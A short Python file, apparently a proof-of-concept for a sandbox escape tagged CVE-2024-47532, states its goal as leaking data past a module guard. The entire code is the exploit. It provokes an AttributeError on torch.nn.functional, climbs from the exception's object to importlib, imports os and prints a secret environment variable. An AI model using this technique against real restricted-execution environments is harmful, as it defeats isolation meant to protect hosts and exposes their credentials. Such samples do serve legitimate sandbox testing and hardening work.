"""
goal: get the real module behind a guard out of an AttributeError (CVE-2024-47532)
effect: leak
"""

from torch.nn import functional

try:
    functional.no_such_name
except AttributeError as error:
    print(error.obj.importlib.import_module("os").environ[SECRET_ENV])
